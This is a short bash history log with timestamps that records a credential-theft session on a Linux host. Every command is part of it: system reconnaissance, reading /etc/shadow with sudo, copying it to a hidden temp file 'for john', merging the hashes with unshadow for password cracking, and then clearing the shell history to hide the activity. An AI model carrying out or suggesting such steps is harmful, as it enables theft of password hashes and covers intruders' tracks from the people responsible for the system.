#1447208040
id
#1447208052
uname -a
#1447208070
sudo cat /etc/shadow
#1447208095
cp /etc/shadow /tmp/.s
#1447208110
# keep a copy for john
#1447208130
unshadow /etc/passwd /tmp/.s > /tmp/.h
#1447208200
unset HISTFILE
#1447208213
history -c
